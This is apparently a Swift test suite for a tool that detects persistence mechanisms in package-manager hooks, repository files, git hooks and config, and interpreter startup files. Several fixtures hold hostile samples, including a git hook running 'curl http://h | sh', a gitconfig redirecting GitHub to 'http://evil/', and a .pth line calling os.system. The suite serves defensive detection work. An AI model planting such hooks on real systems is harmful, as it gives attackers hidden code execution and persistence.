import Artifacts
import CaseModel
import HostFacts
import Testing

@Test func aptHooksAreFoundInAnySyntax() {
  let text = """
    // comment
    DPkg { Pre-Invoke { "/tmp/pre"; "test -x /x && /x"; }; };
    /* block
       comment */
    APT::Update::Post-Invoke-Success:: "/tmp/post --password=abc";
    Dpkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};
    Acquire::http::Proxy "http://p:3128"; # end
    """
  let found = persistence("apt-conf", "/etc/apt/apt.conf.d/99x", text)
  #expect(
    found.map(\.command) == [
      "/tmp/pre", "test -x /x && /x", "/tmp/post --password=***", "/usr/sbin/dpkg-preconfigure --apt || true", nil,
    ])
  #expect(found.map(\.line) == [2, 2, 5, 6, 7])
  #expect(found[0].trigger == "DPkg::Pre-Invoke" && found[0].account == "root" && found[0].mechanism == .packageHook)
  #expect(found[2].attributes["setting"] == "APT::Update::Post-Invoke-Success::")
  #expect(found[4].attributes["Acquire::http::Proxy"] == "http://p:3128")
}

@Test func unbalancedAptConfKeepsTheGoodPart() {
  let output = runPersistence(
    "apt-conf", "/etc/apt/apt.conf", bytes: Array("APT::A \"1\";\nDPkg { Pre-Invoke { \"x".utf8))
  #expect(persistence(of: output).map(\.command) == [nil, "x"])
  #expect(output.notes.count == 1)
}

@Test func aptSourcesInBothForms() {
  let lines = persistence(
    "apt-sources", "/etc/apt/sources.list",
    "deb [trusted=yes signed-by=/tmp/k.gpg] http://203.0.113.9/deb stable main extra # x\n# deb http://y z\nfoo\n")
  #expect(
    lines[0].attributes == [
      "type": "deb", "uri": "http://203.0.113.9/deb", "suite": "stable", "components": "main extra", "trusted": "yes",
      "signed-by": "/tmp/k.gpg",
    ])
  #expect(lines.count == 1 && lines[0].isEnabled == true && lines[0].mechanism == .packageSource)
  let text =
    "Types: deb\nURIs: http://a/\n http://b/\nSuites: s\nEnabled: no\n\n# c\nTypes: deb\nURIs: https://c/\nTrusted: yes\n"
  let stanzas = persistence("apt-sources", "/etc/apt/sources.list.d/x.sources", text)
  #expect(stanzas.map(\.line) == [1, 8] && stanzas.map(\.isEnabled) == [false, true])
  #expect(stanzas[0].attributes["uri"] == "http://a/ http://b/" && stanzas[1].attributes["trusted"] == "yes")
  #expect(
    persistence("apt-sources", "/etc/apt/sources.list.d/x.list.disabled", "deb http://a b c\n")[0].isEnabled == false)
}

@Test func yumSectionsAndActions() {
  let repository = persistence(
    "yum-conf", "/etc/yum.repos.d/x.repo",
    "[x]\nname=X\nbaseurl=http://203.0.113.9/\nGPGCheck=0\nenabled=1\npassword=secret1\n")
  #expect(repository[0].attributes["gpgcheck"] == "0" && repository[0].attributes["section"] == "x")
  #expect(repository[0].isEnabled == true && repository[0].attributes["password"]?.contains("secret1") == false)
  let output = runPersistence(
    "yum-conf", "/etc/dnf/plugins/post-transaction-actions.d/x.action", bytes: Array("*:any:/tmp/x -a:b\nbad\n".utf8))
  let actions = persistence(of: output)
  #expect(actions[0].command == "/tmp/x -a:b" && actions[0].trigger == "*:any" && actions[0].mechanism == .packageHook)
  #expect(output.notes.map(\.line) == [2])
}

@Test func gitHookIsEnabledByItsExecuteBitAndSamplesNever() {
  let hook = persistence("git-hook", "/srv/r/.git/hooks/post-checkout", "#!/bin/sh\ncurl http://h | sh\n", mode: 0o755)
  #expect(
    hook[0].isEnabled == true && hook[0].attributes["hook"] == "post-checkout" && hook[1].attributes["signs"] == "fetch"
  )
  let sample = persistence("git-hook", "/srv/r/.git/hooks/pre-push.sample", "#!/bin/sh\ncurl http://h\n", mode: 0o755)
  #expect(sample.map(\.isEnabled) == [false])
}

@Test func gitSettingsThatRunSomethingAreCommands() {
  let text = """
    [core]
      bare = false
      fsmonitor = /tmp/fs
      hooksPath = /tmp/hooks
      sshCommand = "ssh -i /tmp/k"
    [alias]
      st = status
      x = !/tmp/x "$@"
    [url "http://evil/"]
      insteadOf = https://github.com/
    [filter "lfs"]
      smudge = /tmp/smudge %f
    [credential]
      helper = !/tmp/cred
    """
  let found = persistence("git-config", "/home/a/.gitconfig", text)
  #expect(
    found.map { $0.attributes["setting"]?.text } == [
      "core.fsmonitor", "core.hookspath", "core.sshcommand", "alias.x", "url.http://evil/.insteadof",
      "filter.lfs.smudge",
      "credential.helper",
    ])
  #expect(
    found.map(\.command) == [
      "/tmp/fs", "/tmp/hooks", "ssh -i /tmp/k", "/tmp/x \"$@\"", nil, "/tmp/smudge %f", "/tmp/cred",
    ])
  #expect(persistence("git-config", "/r/.git/config", "[core]\nfsmonitor = true\n").isEmpty)
}

@Test func pythonPathFileRunsOnlyImportLines() {
  let found = persistence(
    "python-startup", "/usr/lib/python3/dist-packages/x.pth", "import os; os.system('id')\n/opt/lib\nimportant\n")
  #expect(found.map { $0.attributes["kind"] } == ["import", "path", "path"])
  #expect(found[0].command == "import os; os.system('id')" && found[1].attributes["directory"] == "/opt/lib")
  let site = persistence("python-startup", "/usr/lib/python3/sitecustomize.py", "# c\nx = 1\nimport socket\n")
  #expect(site.map(\.line) == [0, 3] && site[1].attributes["calls"] == "socket")
}

@Test func interpreterStartupBySettingOrCode() {
  let npm = persistence(
    "interpreter-startup", "/home/a/.npmrc", "//r/:_authToken=npm_abcdefghij\nscript-shell=/tmp/sh\n")
  #expect(npm[1].attributes == ["script-shell": "/tmp/sh"])
  #expect(npm[0].text.contains("npm_abcdefghij") == false)
  let perl = persistence("interpreter-startup", "/etc/perl/sitecustomize.pl", "1;\nsystem('/tmp/x');\n")
  #expect(perl[0].attributes["language"] == "perl" && perl[1].attributes["calls"] == "system(")
}
